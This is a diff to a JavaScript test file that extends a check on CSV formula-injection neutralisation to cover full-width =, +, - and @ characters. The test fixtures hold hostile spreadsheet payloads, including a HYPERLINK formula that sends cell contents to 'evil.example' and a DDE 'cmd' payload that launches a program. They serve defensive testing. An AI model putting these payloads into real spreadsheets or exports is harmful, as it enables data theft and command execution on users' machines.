@@ -22,17 +22,21 @@ describe('openCsvFile', () => {
     expect(text).toBe('a,b,c\r\nplain,"a,b","say ""hi"""\r\n"two\nlines"," padded","cr\rhere"\r\n');
   });
 
-  it('neutralises formula injection: cells starting with =, +, -, @, tab or CR get a leading quote', async () => {
+  it('neutralises formula injection: cells starting with =, +, -, @, tab, CR or a full-width ＝＋－＠ get a leading quote', async () => {
     const hostile = [
       ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3'],
       ['@SUM(1+1)', '\t=1+1', '\r=1+1'],
       ['https://ok.example/=x', 'a=b', ''],
+      ['\uFF1DHYPERLINK("http://evil.example")', '\uFF0B1', '\uFF0D1'],
+      ['\uFF20SUM(1)', 'x\uFF1D1', ''],
     ];
     const { rows } = await roundTrip(hostile);
     expect(rows.slice(1)).toEqual([
       ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', '\'+cmd|\' /C calc\'!A0', '\'-2+3'],
       ['\'@SUM(1+1)', '\'\t=1+1', '\'\r=1+1'],
       ['https://ok.example/=x', 'a=b', ''],
+      ['\'\uFF1DHYPERLINK("http://evil.example")', '\'\uFF0B1', '\'\uFF0D1'],
+      ['\'\uFF20SUM(1)', 'x\uFF1D1', ''],
     ]);
   });
 
